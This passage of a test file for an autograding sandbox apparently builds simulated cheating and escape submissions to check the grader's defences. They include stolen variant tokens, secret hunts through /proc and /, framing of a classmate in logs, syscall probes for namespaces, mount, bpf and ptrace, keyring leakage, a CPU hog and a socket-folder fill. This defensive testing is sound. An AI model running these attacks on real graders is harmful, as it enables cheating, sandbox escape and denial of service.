        "mount and $HOME), where helpers.variants reads it first (expected: 0, reported)",
        lambda me: honest_with(VAR_TOKEN_WORKDIR.format(token=stolen()))(me), matches=("accomplice",))
    add("var_handin_token", "variant_claim", "grader's own variant (never the kernel's)",
        "its own honest notebook handed in with the accomplice's variant-token.json beside it (expected: 0, reported)",
        lambda me: {ta: (_honest(trel, tsrc), 0.0)},
        files=lambda me: {ta: {"variant-token.json": json.dumps(stolen(), indent=1) + "\n"}}, matches=("accomplice",))
    add("var_handin_made_up_token", "variant_claim", "grader's own variant (never the kernel's)",
        "its own honest notebook with a token naming itself and a made-up variant (expected: 0)",
        lambda me: {ta: (_honest(trel, tsrc), 0.0)},
        files=lambda me: {ta: {"variant-token.json": json.dumps(
            {"course": stolen().get("course"), "assignment": ta, "student": me, "variant": 4242}) + "\n"}})
    add("var_bruteforce", "variant_claim", "verdicts against expected values the kernel does not have",
        "answers right only on the visible test's input; tries variants 0..299 in the kernel (visible test, "
        "in-kernel verification of a record) and claims the one that fits: none does, it claims 0 (expected: 0)",
        memo_with(before_tests=VAR_BRUTEFORCE.format(n=300, check="toy.square", cases=hidden[0])))
    add("var_plant_tokens", "variant_claim", "filesystem view",
        "blank answers; plants a made-up token in classmates' submitted, autograded and variants/ folders and the "
        "folders above its working folder, so their kernels would record on variant 777 (expected: 0)",
        lambda me: {ta: (_insert_after_setup(_blank(trel), kit(me), VAR_PLANT_TOKENS), 0.0)})

    # ---------------------------------------------------------------- records on other variants
    add("var_spray", "variant_record", "verifier (every record must be the submitter's)",
        "honest code; every hidden call also records on variants 0..39 besides its own (expected: 0: the "
        "kept records must all be on the grader's variant)",
        lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), kit(me), VAR_SPRAY.format(n=40)), 0.0)})
    add("var_payload_lies", "variant_record", "verifier (cases, not the payload's variant field)",
        "the accomplice's records (their cases, right answers) in place of its own, the payload's variant field "
        "set to its own variant (expected: 0, reported as the accomplice's variant)",
        lambda me: memo_with(VAR_PAYLOAD_LIES.format(copied=copied()))(me), matches=("accomplice",))
    add("var_forged_cases", "variant_record", "verifier (answers judged on the grader's cases)",
        "the accomplice's right answers under its own variant's cases, claiming its own variant (expected: 0)",
        lambda me: memo_with(VAR_FORGED_CASES.format(copied=copied()))(me))
    add("var_literal_cases", "variant_record", "verifier (the grader's variant, not the literal cases)",
        "right answers on the test's literal cases, claiming its own variant (expected: 0)",
        memo_with(VAR_LITERAL_CASES.format(literal=literal)))

    # ---------------------------------------------------------------- the secret, the report
    add("var_secret_hunt", "variant_secret", "filesystem view (the course root is not mounted)",
        "honest code; looks for the course secret, course.toml and classmates' tokens (environments, /proc, "
        "course roots, a walk of /); with any, records on every classmate's variant too (framing them); prints "
        "what it found (expected: full marks, nothing found, no one reported)",
        lambda me: {ta: (_insert_after_setup(_honest(trel, tsrc), kit(me), VAR_SECRET_HUNT), total)})
    fake = f"\n[course] answers match the variant of student {victim} (cells ex1-tests)\n"

    def frame(me):
        nb = _insert_after_setup(_honest(trel, tsrc), VAR_FRAME_LOG.format(fake=fake))
        for _ in range(2):  # two cells with the same (made-up) grade_id: nbgrader logs the id, as it is
            cell = new_code_cell("pass")
            cell.metadata["nbgrader"] = {"grade_id": "x" + fake + "y", "locked": True, "grade": False,
                                         "solution": False, "schema_version": 3}
            nb.cells.append(cell)
        nb.metadata.setdefault("kernelspec", {})["display_name"] = fake
        return {ta: (nb, total)}

    add("var_frame_in_log", "variant_frame", "the collusion report (from the grader's verdicts only)",
        "honest code; writes a fake '[course] answers match the variant of student <honest classmate>' note to "
        "stdout, stderr, logging, an exception, the kernelspec and the grade_id of two extra cells (nbgrader's "
        "DeduplicateIds logs a duplicate id as it is) (expected: full marks, no one reported)",
        frame)

    # ---------------------------------------------------------------- the rest of the corpus, variants on
    for attack in representatives:
        out.append(Attack("var_" + attack.name, attack.klass, attack.layer, attack.doc + " (variants on)",
                          attack.build, attack.reason, attack.kinds | {"variants"}))
    return out


# ============================================================================ the sandbox's last gaps (issue 21)
# Standalone scripts (each prints one JSON line after its tag): run from a notebook cell in a real
# autograde run, and by the test itself outside any sandbox, as the oracle of what the same calls do
# unfiltered. System-call numbers come from libseccomp (the machine's own table), never hard-coded.
SYSCALLS = r'''
import ctypes, errno, json, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_scmp = ctypes.CDLL("libseccomp.so.2")
_scmp.seccomp_syscall_resolve_name.argtypes = [ctypes.c_char_p]
MISSING = b"/nonexistent-course-probe"

def _arg(v):
    return ctypes.c_char_p(v) if isinstance(v, bytes) else ctypes.c_void_p(None) if v is None else ctypes.c_long(v)

def call(name, *args):
    """``ok`` or the errno name of the system call, made in a forked child (a success changes nothing here)."""
    nr = _scmp.seccomp_syscall_resolve_name(name.encode())
    if nr < 0:
        return "unknown"
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        rc = _libc.syscall(ctypes.c_long(nr), *map(_arg, args))
        err = ctypes.get_errno()
        if rc == 0 and name == "clone":  # the clone's own child: leave at once
            os._exit(0)
        os.write(w, ("ok" if rc >= 0 else errno.errorcode.get(err, str(err))).encode())
        os._exit(0)
    os.close(w)
    out = os.read(r, 64).decode() or "no answer"
    os.close(r)
    os.waitpid(pid, 0)
    return out
'''

#: every system call the grader's filter refuses, with arguments that make an unfiltered (root) caller
#: fail on the arguments (or succeed harmlessly), never do anything: ``{family: [(name, *args)]}``
SYSCALL_PROBE = SYSCALLS + r'''
NEWUSER, NEWNS, SIGCHLD, NOPID = 0x10000000, 0x20000, 17, 0x3ffffff0
PROBES = {
    "namespaces": [("unshare", NEWUSER), ("unshare", NEWNS), ("setns", -1, 0), ("clone", NEWUSER | SIGCHLD, 0, 0, 0, 0)],
    "clone3": [("clone3", None, 0)],
    "mount": [("mount", b"none", MISSING, b"tmpfs", 0, None), ("umount2", MISSING, 0), ("pivot_root", MISSING, MISSING),
              ("chroot", MISSING), ("move_mount", -1, MISSING, -1, MISSING, 0), ("open_tree", -100, MISSING, 0),
              ("fsopen", b"course-probe-nofs", 0), ("fsconfig", -1, 0, None, None, 0), ("fsmount", -1, 0, 0),
              ("fspick", -100, MISSING, 0), ("mount_setattr", -100, MISSING, 0, None, 0)],
    "io_uring": [("io_uring_setup", 0, None), ("io_uring_enter", -1, 0, 0, 0, None, 0), ("io_uring_register", -1, 0, None, 0)],
    "keyring": [("keyctl", 0, -3, 0), ("add_key", None, None, None, 0, -3), ("request_key", None, None, None, 0)],
    "bpf": [("bpf", 0xffff, None, 0)],
    "perf": [("perf_event_open", None, 0, -1, -1, 0)],
    "other_processes": [("ptrace", 16, NOPID, 0, 0), ("process_vm_readv", NOPID, None, 0, None, 0, 1),
                        ("process_vm_writev", NOPID, None, 0, None, 0, 1), ("kcmp", NOPID, NOPID, 0, 0, 0),
                        ("pidfd_getfd", -1, 0, 0)],
    "modules": [("init_module", None, 0, b""), ("finit_module", -1, b"", 0), ("delete_module", b"course_probe_none", 0)],
    "reboot": [("reboot", 0, 0, 0, None), ("kexec_load", 0, 0, None, 0xffffffff), ("kexec_file_load", -1, -1, 0, None, 0xffffffff)],
    "swap": [("swapon", MISSING, 0), ("swapoff", MISSING)],
    "accounting": [("acct", MISSING)],
    "userfaultfd": [("userfaultfd", 0x7fffffff)],
    "file_handles": [("open_by_handle_at", -1, None, 0), ("name_to_handle_at", -1, MISSING, None, None, 0)],
    "administration": [("quotactl", 0, MISSING, 0, None), ("quotactl_fd", -1, 0, 0, None), ("syslog", 10, None, 0),
                       ("fanotify_init", 0xffffffff, 0), ("settimeofday", None, None), ("clock_settime", 0xfff, None),
                       ("clock_adjtime", 0xfff, None), ("adjtimex", None)],
}
out = {fam: {f"{p[0]}#{i}": call(*p) for i, p in enumerate(calls)} for fam, calls in PROBES.items()}
status = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines() if ":" in l)
out["seccomp_mode"] = status.get("Seccomp", "").strip()
print("SYSCALLS", json.dumps(out))
'''

#: leave a key in every keyring an earlier kernel could share with a later one of the same shard
KEY_LEAVE = SYSCALLS + r'''
out = {ring: call("add_key", b"user", b"course-probe-key", b"classmate's secret", 18, n)
       for ring, n in (("session", -3), ("user", -4), ("user_session", -5))}
print("KEYS", json.dumps(out))
'''

#: look for that key in the same keyrings
KEY_READ = SYSCALLS + r'''
out = {ring: call("keyctl", 10, n, b"user", b"course-probe-key", 0) for ring, n in (("session", -3), ("user", -4),
                                                                                    ("user_session", -5))}
out["request_key"] = call("request_key", b"user", b"course-probe-key", None, 0)
print("KEYS", json.dumps(out))
'''

#: the socket folder and every writable mount of the kernel's view (from its mount table)
SEAL_PROBE = r'''
import json, os
def _attempt(fn):
    try:
        return "ok:" + str(fn())
    except BaseException as exc:
        return type(exc).__name__
_seal = {"create": _attempt(lambda: open("/run/kernel/evil", "w").write("x" * 1000)),
         "mkdir": _attempt(lambda: os.mkdir("/run/kernel/evil_dir")),
         "chmod": _attempt(lambda: os.chmod("/run/kernel", 0o777)),
         "connection_file": _attempt(lambda: open("/run/kernel/kernel.json", "a").write("x")),
         "run_bytes": os.statvfs("/run/kernel").f_blocks * os.statvfs("/run/kernel").f_frsize, "mounts": []}
for _line in open("/proc/self/mountinfo"):
    _left, _right = _line.split(" - ")
    _point, _opts = _left.split()[4], _left.split()[5]
    _fstype, _super = _right.split()[0], _right.split()[2]
    _probe = os.path.join(_point, ".course-probe-%d" % os.getpid())
    _wrote = _attempt(lambda: open(_probe, "w").write("x"))
    if _wrote.startswith("ok"):
        os.unlink(_probe)
    _seal["mounts"].append([_point, _fstype, _opts, _super, _wrote.startswith("ok")])
print("SEAL", json.dumps(_seal))
'''

#: the kernel's CPU budget as it sees it (its own group, shown read-only at the standard places)
CPU_READ = r'''
import json, os
def _cpu_view(extra=None):
    for _d in ("/sys/fs/cgroup/cpu", "/sys/fs/cgroup"):
        if os.path.exists(_d + "/cpu.cfs_quota_us"):
            quota = [open(_d + "/cpu.cfs_quota_us").read().strip(), open(_d + "/cpu.cfs_period_us").read().strip()]
            break
        if os.path.exists(_d + "/cpu.max"):
            quota = open(_d + "/cpu.max").read().split()
            break
    else:
        return {"quota": None}
    procs = [int(p) for p in open(_d + "/cgroup.procs").read().split()]
    return {"quota": [int(q) for q in quota], "group": os.stat(_d).st_ino, "procs": len(procs),
            "mine": os.getpid() in procs, **(extra or {})}
'''

CPU_HONEST = CPU_READ + 'print("CPU", json.dumps(_cpu_view()))\n'

#: a CPU hog of 150 spinning processes, its view of its group read once all of them spin. They wait
#: (blocked, no CPU) until all are forked, since under the hog's own quota forking beside 150 spinners
#: would crawl, and stop when the cell closes their pipe (at the latest after 30 s)
CPU_HOG = CPU_READ + r"""
import select, time
_go_r, _go_w = os.pipe()
_stop_r, _stop_w = os.pipe()
_kids = []
for _i in range(150):
    _pid = os.fork()
    if _pid == 0:
        os.close(_stop_w)
        os.close(_go_w)
        os.read(_go_r, 1)
        _end = time.time() + 30
        while time.time() < _end and not select.select([_stop_r], [], [], 0)[0]:
            for _ in range(10000):
                pass
        os._exit(0)
    _kids.append(_pid)
os.write(_go_w, b"g" * len(_kids))
_view = _cpu_view({"spinning": len(_kids)})
os.close(_stop_w)
for _pid in _kids:
    os.waitpid(_pid, 0)
print("CPU", json.dumps(_view))
"""

#: the issue-21 attack on the host: fill the kernel's socket folder (bounded: 96 x 16 MiB, 4 s)
FILL_SOCKET_FOLDER = '''
import os, time
_block = b"\\2" * (16 << 20)
_t0, _done = time.monotonic(), 0
for _i in range(96):
    if time.monotonic() - _t0 > 4:
        break
    try:
        with open("/run/kernel/%s_run_%d" % (__MARKME__, _i), "wb") as _fh:
            _fh.write(_block)
        _done += 1
    except OSError as exc:
        print("socket folder refused:", type(exc).__name__)
        break
print("socket folder took", _done * 16, "MiB")
'''

#: nested namespaces and a mount, io_uring, a key, bpf, ptrace: each made in a forked child (SYSCALLS' call)
ESCAPE = r'''
def _nest_and_mount():
    rc = _libc.unshare(0x10000000 | 0x20000)
    if rc != 0:
        return "unshare: " + errno.errorcode.get(ctypes.get_errno(), "?")
    os.makedirs("/tmp/nested", exist_ok=True)
    rc = _libc.mount(b"none", b"/tmp/nested", b"tmpfs", 0, None)
    return "mounted" if rc == 0 else "mount: " + errno.errorcode.get(ctypes.get_errno(), "?")
_r, _w = os.pipe()
_pid = os.fork()
if _pid == 0:
    os.write(_w, _nest_and_mount().encode())
    os._exit(0)
os.close(_w)
print("nested:", os.read(_r, 100).decode())
os.waitpid(_pid, 0)
print("io_uring:", call("io_uring_setup", 8, bytes(120)), "key:", call("add_key", b"user", b"left", b"v", 1, -4),
      "bpf:", call("bpf", 0, bytes(72), 72), "ptrace:", call("ptrace", 16, os.getppid(), 0, 0))
'''

#: a stall longer than any budget a measured toy notebook gets
STALL_LONG = "import time\ntime.sleep(3600)\n"


def last_gaps(toy: tuple) -> dict[str, tuple]:
    """The submissions of issue 21's test, by student: ``{student: (notebook, expected score)}``.

    Names sort so that, dealt into two shards (``students[k::2]``), the key leaver and the key
    reader share a shard (one grader process, so one kernel uid), graded one after the other, and
    the hog is graded beside an honest classmate in the other shard.
    """
    _name, trel, tsrc = toy
    total, _pts = _totals(trel)

    def probe(*codes):
        return _insert_after_setup(_honest(trel, tsrc), *codes)

    def script(code):  # a standalone probe script, run as a child of the kernel (its filter inherited)
        return f"import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', {code!r}], capture_output=True, " \
               "text=True, timeout=120).stdout)\n"

    return {"a_probe_keys": (probe(SEAL_PROBE, script(SYSCALL_PROBE), script(KEY_LEAVE)), total),
            "b_hog": (probe(CPU_HOG), total),
            "c_read_keys": (probe(script(KEY_READ)), total),
            "d_honest": (probe(CPU_HONEST), total)}
